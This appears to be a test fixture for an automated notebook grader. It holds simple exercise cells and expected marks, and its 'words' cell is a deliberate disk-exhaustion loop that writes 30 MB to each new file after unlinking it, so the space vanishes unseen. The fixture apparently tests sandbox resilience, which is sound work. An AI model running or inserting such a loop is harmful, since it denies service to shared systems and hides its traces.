"""Fills the disk with files that have no name any more."""
# marks: 3 2 2 0

# %% number
number = 42

# %% mean
mean = posts['likes'].mean()

# %% double
def double(x):
    return 2 * x

# %% words
import os

kept = []
while True:
    kept.append(open(f'file-{len(kept)}', 'wb'))
    os.unlink(kept[-1].name)
    kept[-1].write(bytes(30_000_000))
